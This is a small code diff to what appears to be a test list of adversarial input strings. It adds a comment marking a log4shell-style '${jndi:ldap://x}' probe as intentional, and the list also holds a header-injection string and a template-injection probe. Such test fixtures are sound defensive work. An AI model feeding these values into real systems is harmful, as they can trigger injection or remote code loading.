@@ -19,6 +19,7 @@ const strings = [
   huge,
   'xterm\nX-Injected: 1',
   '{{7*7}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style probe, meant literally.
   '${jndi:ldap://x}',
   'ＡＤＭＩＮ',
 ];
